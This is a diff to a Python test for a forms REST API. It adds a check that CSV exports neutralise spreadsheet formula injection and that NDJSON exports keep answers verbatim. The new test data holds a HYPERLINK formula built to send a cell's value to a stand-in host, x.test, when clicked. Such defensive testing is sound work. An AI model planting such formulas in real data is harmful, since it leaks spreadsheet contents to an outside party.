@@ -109,7 +109,8 @@ async def test_forms_over_rest_bad_input_and_exports(
                 400,
                 "FILTER_FIELD_UNKNOWN",
             )
-            for name, country in (("Ada", "ID"), ('Bo, "the" second', "NL")):
+            formula = '=HYPERLINK("https://x.test/?"&A1,"open")'
+            for name, country in (("Ada", "ID"), ('Bo, "the" second', "NL"), (formula, "NL")):
                 answers = {"name": name, "country": country, "items": [{"qty": 1}]}
                 sent = await client.post("/v1/forms/intake/submissions", json={"answers": answers}, headers=member)
                 assert sent.status_code == 200, sent.text
@@ -131,9 +132,10 @@ async def test_forms_over_rest_bad_input_and_exports(
             assert exported.status_code == 200
             assert exported.headers["content-type"].startswith("text/csv")
             rows = list(csv.DictReader(io.StringIO(exported.text)))
-            assert [row["name"] for row in rows] == ["Ada", 'Bo, "the" second', "Cy"]
-            assert [row["version"] for row in rows] == ["1", "1", "2"]
-            assert [row["phone"] for row in rows] == ["", "", "+62 21"]
+            # An answer a spreadsheet would run as a formula is written as text; a phone number is not.
+            assert [row["name"] for row in rows] == ["Ada", 'Bo, "the" second', "'" + formula, "Cy"]
+            assert [row["version"] for row in rows] == ["1", "1", "1", "2"]
+            assert [row["phone"] for row in rows] == ["", "", "", "+62 21"]
             assert json.loads(rows[0]["items"]) == [{"qty": 1}]
             # NDJSON: one object per line.
             exported = await client.get(
@@ -141,7 +143,8 @@ async def test_forms_over_rest_bad_input_and_exports(
             )
             assert exported.headers["content-type"].startswith("application/x-ndjson")
             lines = [json.loads(line) for line in exported.text.splitlines()]
-            assert [line["answers"]["name"] for line in lines] == ["Ada", 'Bo, "the" second', "Cy"]
+            # NDJSON is for programs: every answer exactly as submitted.
+            assert [line["answers"]["name"] for line in lines] == ["Ada", 'Bo, "the" second', formula, "Cy"]
             # Members may not export; an archived form takes no submissions.
             refused = await client.get("/v1/forms/intake/submissions:export", headers=member)
             assert refused.status_code == 403
